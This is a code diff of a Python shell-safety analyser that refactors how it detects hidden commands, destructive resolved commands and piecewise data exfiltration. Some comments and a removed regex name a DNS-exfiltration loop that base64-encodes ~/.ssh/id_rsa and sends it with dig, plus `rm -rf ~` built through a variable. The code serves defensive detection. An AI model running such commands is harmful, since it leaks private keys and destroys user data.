@@ -7,8 +7,6 @@ all reached by one iterative walk (nesting can be thousands deep). Shell code in
 
 from __future__ import annotations
 
-import re
-
 from tree_sitter import Node
 
 from tui.core.safety import effects, resolve
@@ -18,10 +16,12 @@ from tui.core.safety.model import RiskLevel
 from tui.core.safety.nodes import (
     bare,
     disables_history,
+    loop_flow,
     pattern_forms,
     program_variables,
     self_calls,
     stage_command_node,
+    stage_commands,
 )
 from tui.core.safety.parse import (
     Command,
@@ -41,7 +41,6 @@ from tui.core.safety.rules.resources import busy_cores, endless_loop
 from tui.core.safety.unwrap import expand
 from tui.core.safety.words import SUBSTITUTED, Word, evaluate, literal, node_text
 
-_DNS = re.compile(r"\b(dig|nslookup|host|drill|ping|curl|wget|nc)\b")
 MAX_KIND_NODES = 20_000  # node visits to classify substitutions, per assessment
 MAX_CALLS = 16  # function bodies followed into, per assessment
 HISTORY_VARIABLES = frozenset({"HISTFILE", "HISTSIZE", "HISTFILESIZE"})
@@ -69,6 +68,9 @@ class Analyser:
         self._collect_functions(tree.root_node)
         self.walk(tree.root_node)
         spelt = resolve.brace_commands(source)
+        hidden = resolve.brace_hidden(spelt)
+        if hidden is not None:
+            self.ctx.add(RiskLevel.HIGH, hidden, source[:200])
         if spelt is not None and self.ctx.depth < MAX_DEPTH:
             self.ctx.depth += 1
             try:
@@ -150,6 +152,12 @@ class Analyser:
                 self.ctx.add(RiskLevel.MODERATE, reason, command)
                 self.run_code(literal(code), command)
 
+    def _quietly_resolved(self, command: Command) -> Command:
+        if not command.words or not resolve.needs_resolving(command.words[0]):
+            return command
+        texts = [literal_output(node) for node in command.words[0].substitutions]
+        return resolve.resolve(command, self.ctx.variables, texts) or command
+
     def _resolved(self, command: Command) -> Command:
         """`a=rm; $a -rf ~` is `rm -rf ~`; names that stay unknown are left for the rules."""
         if not command.words:
@@ -159,7 +167,12 @@ class Analyser:
             return command
         texts = [literal_output(node) for node in command.words[0].substitutions]
         resolved = resolve.resolve(command, self.ctx.variables, texts)
-        return resolved if resolved is not None else command
+        if resolved is None:
+            return command
+        hidden = resolve.hides(command.words[0], resolved)
+        if hidden is not None:
+            self.ctx.add(RiskLevel.HIGH, hidden, resolved)
+        return resolved
 
     def _call(self, command: Command) -> None:
         """A call of a function defined in the same line: its body, with the call's arguments."""
@@ -184,15 +197,17 @@ class Analyser:
         if body is not None and body.type == "command":
             return  # the command picks up these redirections itself
         reads: tuple[str, ...] = ()
+        last: frozenset[str] = frozenset()  # what the last stage makes (decoded text, ...)
         if body is not None and body.type == "pipeline":
             stages = [child for child in body.children if child.is_named]
-            commands = [c for stage in stages for c in self._stage_commands(stage, body)]
+            commands = [c for stage in stages for c in stage_commands(stage, body)]
             reads = tuple(w.value for c in commands for w in c.args if not w.value.startswith("-"))
+            last = frozenset(command_kinds(expand(commands[-1])[0][-1]) if commands else ())
         pseudo = Command(
             words=(),
             text=node_text(node),
             redirects=tuple(statement_redirects(node)),
-            stdin=Stdin(kinds=frozenset(), reads=reads[:64]),
+            stdin=Stdin(kinds=frozenset(last), reads=reads[:64]),
         )
         self.redirects(pseudo)
 
@@ -212,13 +227,13 @@ class Analyser:
         previous: list[Command] = []
         reads: list[str] = []
         for stage, stage_parent in stages:
-            commands = self._stage_commands(stage, stage_parent)
+            commands = stage_commands(stage, stage_parent)
             command_node = stage_command_node(stage)
             if command_node is not None and kinds_so_far:
                 stdin[command_node.id] = stdin_for(kinds_so_far, producers, previous, reads)
             stage_kinds: set[str] = set()
             for command in commands:
-                layers, _ = expand(command)
+                layers, _ = expand(self._quietly_resolved(command))
                 for layer in layers[-1:]:
                     stage_kinds |= command_kinds(layer)
                 producers.append(command.name or "…")
@@ -234,17 +249,6 @@ class Analyser:
             body = statement.child_by_field_name("body")
             if body is not None:
                 stages.insert(0, (body, statement))
-
-    def _stage_commands(self, stage: Node, parent: Node) -> list[Command]:
-        found: list[Command] = []
-        stack = [(stage, parent)]
-        while stack and len(found) < 16:
-            node, above = stack.pop()
-            if node.type == "command":
-                found.append(build_command(node, above))
-            elif node.type not in ("command_substitution", "process_substitution"):
-                stack.extend((child, node) for child in reversed(node.children))
-        return found
 
     def _pipeline_rules(self, node: Node, all_kinds: list[set[str]]) -> None:
         shells = [i for i, kinds in enumerate(all_kinds) if "shell" in kinds]
@@ -262,14 +266,8 @@ class Analyser:
             )
 
     def _loop_flow(self, node: Node) -> None:
-        """`for x in $(base64 ~/.ssh/id_rsa | fold); do dig $x.host; done`: a secret sent
-        piece by piece, one network call per loop."""
-        values = [c for i, c in enumerate(node.children) if node.field_name_for_child(i) == "value"]
-        body = node.child_by_field_name("body")
-        if not values or body is None or "secret" not in self.kinds_of(tuple(values)):
-            return
-        if self.kinds_of((body,)) & {"network", "send", "download"} or _DNS.search(node_text(body)):
-            reason = "sends secrets or personal data to another machine, piece by piece"
+        reason = loop_flow(node, self.kinds_of)
+        if reason is not None:
             self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node)[:200])
 
     # -- functions, variables ---------------------------------------------------------------------
